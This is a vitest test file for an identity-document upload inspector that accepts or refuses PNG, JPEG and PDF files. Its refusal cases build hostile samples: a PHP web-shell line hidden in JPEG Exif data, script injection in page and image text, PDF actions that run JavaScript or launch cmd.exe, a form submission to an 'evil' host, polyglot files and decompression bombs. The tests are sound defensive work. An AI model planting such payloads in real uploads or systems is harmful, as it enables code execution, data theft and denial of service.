import { deflateSync } from "node:zlib"
import { describe, expect, it } from "vitest"
import type { KycFileRefusal, KycFileType } from "#domain/KycFile.ts"
import { KYC_FILE_BYTES_MAX } from "#domain/kycFileLimits.ts"
import { inspectFile } from "#server/kyc/inspection/inspectFile.ts"
import {
  jpeg,
  jpegSegment,
  pdf,
  pdfStream,
  png,
  PNG_SIGNATURE,
  pngChunk,
  pngOf,
  without,
  zipEnd
} from "#server/kyc/inspection/testingFiles.ts"

const PDF = "application/pdf"
const JPEG = "image/jpeg"
const PNG = "image/png"

const text = (words: string): Buffer => Buffer.from(words, "latin1")
const objectStream = (content: string, dictionary = "/Filter /FlateDecode"): Buffer =>
  pdfStream(7, `/Type /ObjStm /N 1 /First 4 ${dictionary}`, deflateSync(text(content)))
/** Adam7 of 320 × 240: the bytes of its seven passes. */
const interlacedPixels = Buffer.alloc(
  [
    [40, 30],
    [40, 30],
    [80, 30],
    [80, 60],
    [160, 60],
    [160, 120],
    [320, 120]
  ].reduce((sum, [across = 0, down = 0]) => sum + (across + 1) * down, 0)
)

describe("is taken", () => {
  it.each<[string, Buffer, KycFileType]>([
    ["a PNG", png(), PNG],
    ["a PNG with a text", png({ before: [pngChunk("tEXt", text("Title\0Passport"))] }), PNG],
    ["an interlaced PNG", png({ interlaced: true, pixels: interlacedPixels }), PNG],
    ["a PNG with its pixels in a file of 9 MB", png({ width: 3_000, height: 3_000 }), PNG],
    ["a JPEG", jpeg(), JPEG],
    ["a JPEG with a comment", jpeg({ before: [jpegSegment(0xfe, text("made by a camera"))] }), JPEG],
    ["a large JPEG", jpeg({ width: 4_000, height: 3_000 }), JPEG],
    ["a PDF", pdf(), PDF],
    ["a PDF that says how it opens", pdf({ catalog: "/OpenAction [3 0 R /Fit] " }), PDF],
    ["a PDF with its objects in a stream", pdf({ objects: [objectStream("8 0 << /Type /Annot >>")] }), PDF],
    [
      "a PDF with a compressed picture",
      pdf({ objects: [pdfStream(7, "/Subtype /Image /Filter /FlateDecode", deflateSync(Buffer.alloc(90_000)))] }),
      PDF
    ]
  ])("%s", async (_, file, type) => {
    expect(await inspectFile(file, type)).toEqual({ _tag: "Accepted", type })
  })
})

describe("is refused", () => {
  it.each<[string, Buffer, KycFileType, KycFileRefusal]>([
    // size
    ["an empty file", Buffer.alloc(0), PNG, "FILE_SIZE_MISMATCH"],
    ["more than 10 MiB", Buffer.concat([png(), Buffer.alloc(KYC_FILE_BYTES_MAX)]), PNG, "FILE_SIZE_MISMATCH"],

    // type confusion
    ["a PDF that calls itself a PNG", pdf(), PNG, "FILE_TYPE_MISMATCH"],
    ["a PNG that calls itself a JPEG", png(), JPEG, "FILE_TYPE_MISMATCH"],
    ["a JPEG that calls itself a PDF", jpeg(), PDF, "FILE_TYPE_MISMATCH"],
    ["a page", text(`<!doctype html><script>alert(1)</script>${" ".repeat(200)}`), PNG, "FILE_TYPE_NOT_ALLOWED"],
    [
      "a drawing with a script",
      text(`<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>${" ".repeat(200)}`),
      PNG,
      "FILE_TYPE_NOT_ALLOWED"
    ],
    ["a program", Buffer.concat([text("MZ"), Buffer.alloc(500)]), PNG, "FILE_TYPE_NOT_ALLOWED"],
    ["an archive", Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(200), zipEnd()]), PDF, "FILE_TYPE_NOT_ALLOWED"],
    ["a GIF", Buffer.concat([text("GIF89a"), Buffer.alloc(200)]), PNG, "FILE_TYPE_NOT_ALLOWED"],
    ["zeros", Buffer.alloc(1_000), JPEG, "FILE_TYPE_NOT_ALLOWED"],
    ["an animated PNG", png({ before: [pngChunk("acTL", Buffer.alloc(8))] }), PNG, "FILE_TYPE_NOT_ALLOWED"],

    // two files in one
    ["a PNG with a page behind it", Buffer.concat([png(), text("<script>alert(1)</script>")]), PNG, "FILE_HAS_EXTRA_DATA"],
    ["a JPEG with an archive behind it", Buffer.concat([jpeg(), zipEnd()]), JPEG, "FILE_HAS_EXTRA_DATA"],
    ["a JPEG with a second picture behind it", Buffer.concat([jpeg(), jpeg()]), JPEG, "FILE_HAS_EXTRA_DATA"],
    ["a PDF with an archive behind it", Buffer.concat([pdf(), zipEnd()]), PDF, "FILE_HAS_EXTRA_DATA"],
    ["a PDF with a page before it", Buffer.concat([text("<html>\n"), pdf()]), PDF, "FILE_TYPE_NOT_ALLOWED"],
    [
      "a PNG that is an archive, the rest its comment",
      png({ before: [pngChunk("prVt", zipEnd(4 + trailing()))] }),
      PNG,
      "FILE_HAS_EXTRA_DATA"
    ],
    ["a JPEG with a PDF in its comment", jpeg({ before: [jpegSegment(0xfe, pdf())] }), JPEG, "FILE_HAS_ACTIVE_CONTENT"],
    [
      "a JPEG with a script in its profile",
      jpeg({ before: [jpegSegment(0xe1, text("Exif\0\0<?php system($_GET[0]); ?>"))] }),
      JPEG,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    ["a PNG with a page in its text", png({ before: [pngChunk("tEXt", text("Comment\0<HTML><body>"))] }), PNG, "FILE_HAS_ACTIVE_CONTENT"],
    [
      "a PNG with a script in a compressed text",
      png({ before: [pngChunk("zTXt", Buffer.concat([text("Comment\0\0"), deflateSync(text("<script>alert(1)</script>"))]))] }),
      PNG,
      "FILE_HAS_ACTIVE_CONTENT"
    ],

    // truncated and damaged
    ["a PNG without its end", without(png(), 12), PNG, "FILE_DAMAGED"],
    ["a PNG cut in its pixels", without(png(), 20), PNG, "FILE_DAMAGED"],
    ["a PNG with a wrong checksum", corrupted(png(), 60), PNG, "FILE_DAMAGED"],
    ["a PNG with fewer pixels than it says", png({ pixels: Buffer.alloc(1_000) }), PNG, "FILE_DAMAGED"],
    ["a PNG with a filter that is none", png({ pixels: Buffer.alloc(321 * 240, 9) }), PNG, "FILE_DAMAGED"],
    ["a PNG of nothing but its header", Buffer.concat([PNG_SIGNATURE, Buffer.alloc(100)]), PNG, "FILE_TYPE_NOT_ALLOWED"],
    ["a JPEG without its end", without(jpeg(), 2), JPEG, "FILE_DAMAGED"],
    ["a JPEG cut in its picture, with an end", Buffer.concat([without(jpeg(), 102), text("\u00ff\u00d9")]), JPEG, "FILE_DAMAGED"],
    ["a JPEG with fewer blocks than it says", jpeg({ blocks: 30 }), JPEG, "FILE_DAMAGED"],
    ["a JPEG with more behind its blocks", jpeg({ blocks: 40_000 }), JPEG, "FILE_DAMAGED"],
    [
      "a JPEG of nothing but its ends",
      Buffer.concat([text("\u00ff\u00d8\u00ff\u00e0\u0000\u0082"), Buffer.alloc(128), text("\u00ff\u00d9")]),
      JPEG,
      "FILE_DAMAGED"
    ],
    ["a PDF without its end", without(pdf(), 7), PDF, "FILE_DAMAGED"],
    ["a PDF cut in the middle", without(pdf(), 300), PDF, "FILE_DAMAGED"],
    [
      "a PDF without a page",
      text(`%PDF-1.4\n1 0 obj\n<</Root 1 0 R>>\nendobj\n${" ".repeat(99)}\nstartxref\n9\n%%EOF`),
      PDF,
      "FILE_DAMAGED"
    ],

    // what decodes to too much
    ["a PNG of 65,000 by 65,000", png({ width: 65_000, height: 65_000, pixels: Buffer.alloc(10) }), PNG, "IMAGE_TOO_LARGE"],
    ["a long PNG", png({ width: 20_000, height: 300, pixels: Buffer.alloc(10) }), PNG, "IMAGE_TOO_LARGE"],
    ["a JPEG of 60,000 by 60,000", jpeg({ width: 60_000, height: 60_000, blocks: 10 }), JPEG, "IMAGE_TOO_LARGE"],
    ["a PNG that decompresses to a gigabyte", pngOf(320, 240, bomb()), PNG, "FILE_HAS_EXTRA_DATA"],
    [
      "a PNG with a text that decompresses to a gigabyte",
      png({ before: [pngChunk("zTXt", Buffer.concat([text("Comment\0\0"), bomb()]))] }),
      PNG,
      "FILE_TOO_COMPLEX"
    ],
    [
      "a PDF with a stream that decompresses to a gigabyte",
      pdf({ objects: [pdfStream(7, "/Filter /FlateDecode", bomb())] }),
      PDF,
      "FILE_TOO_COMPLEX"
    ],
    [
      "a PDF with too many pages",
      pdf({ objects: Array.from({ length: 60 }, (_, index) => `${10 + index} 0 obj\n<< /Type /Page >>\nendobj\n`) }),
      PDF,
      "FILE_TOO_COMPLEX"
    ],

    // too small to read
    ["a dot", png({ width: 10, height: 10 }), PNG, "IMAGE_TOO_SMALL"],

    // PDFs that do something
    ["a PDF with a script", pdf({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >> " }), PDF, "FILE_HAS_ACTIVE_CONTENT"],
    [
      "a PDF with a script under another spelling",
      pdf({ catalog: "/OpenAction << /S /J#61va#53cript /JS (x) >> " }),
      PDF,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    ["a PDF that starts a program", pdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >> " }), PDF, "FILE_HAS_ACTIVE_CONTENT"],
    ["a PDF with a file in it", pdf({ catalog: "/Names << /EmbeddedFiles 9 0 R >> " }), PDF, "FILE_HAS_ACTIVE_CONTENT"],
    ["a PDF with a form that is a program", pdf({ catalog: "/AcroForm << /XFA 9 0 R >> " }), PDF, "FILE_HAS_ACTIVE_CONTENT"],
    ["a PDF that sends a form", pdf({ catalog: "/AA << /O << /S /SubmitForm /F (http://evil) >> >> " }), PDF, "FILE_HAS_ACTIVE_CONTENT"],
    [
      "a PDF with a script in a compressed stream of objects",
      pdf({ objects: [objectStream("8 0 << /S /JavaScript /JS (x) >>")] }),
      PDF,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    [
      "a PDF whose stream of objects cannot be looked into",
      pdf({ objects: [objectStream("8 0 << >>", "/Filter [/ASCIIHexDecode /FlateDecode]")] }),
      PDF,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    [
      "a PDF whose stream of objects is shuffled",
      pdf({ objects: [objectStream("8 0 << >>", "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")] }),
      PDF,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    [
      "a PDF whose filter stands elsewhere",
      pdf({ objects: [objectStream("8 0 << /S /JavaScript >>", "/Filter 9 0 R")] }),
      PDF,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    [
      "a PDF that spells its stream of objects to be overlooked",
      pdf({ objects: [pdfStream(7, "/Type /Obj#53tm /Filter /FlateDecode", deflateSync(text("/JavaScript")))] }),
      PDF,
      "FILE_HAS_ACTIVE_CONTENT"
    ],
    ["a PDF with a password", pdf({ trailer: "/Encrypt 9 0 R " }), PDF, "FILE_ENCRYPTED"]
  ])("%s", async (_, file, type, code) => {
    expect(await inspectFile(file, type)).toMatchObject({ _tag: "Refused", code })
  })
})

it("whatever is cut off or changed, it is judged in bounded time and never thrown at the caller", { timeout: 60_000 }, async () => {
  const files: ReadonlyArray<[Buffer, KycFileType]> = [
    [png(), PNG],
    [jpeg(), JPEG],
    [pdf({ objects: [objectStream("8 0 << >>")] }), PDF]
  ]
  for (const [file, type] of files) {
    for (let length = 0; length < file.length; length += Math.ceil(file.length / 150)) {
      expect((await inspectFile(file.subarray(0, length), type))._tag).toBe("Refused")
    }
    for (let at = 0; at < file.length; at += Math.ceil(file.length / 150)) {
      expect(["Accepted", "Refused"]).toContain((await inspectFile(corrupted(file, at), type))._tag)
    }
  }
})

/** A gigabyte of zeros in a megabyte, twice as much as any limit. */
function bomb(): Buffer {
  return deflateSync(Buffer.alloc(700 * 1024 * 1024), { level: 9 })
}

function corrupted(file: Buffer, at: number): Buffer {
  const copy = Buffer.from(file)
  copy[at] = (copy[at] ?? 0) ^ 0x5a
  return copy
}

/** Bytes that follow the chunk before the pixels. */
function trailing(): number {
  const whole = png({ before: [pngChunk("prVt", Buffer.alloc(0))] })
  return whole.length - whole.indexOf("prVt") - 8
}
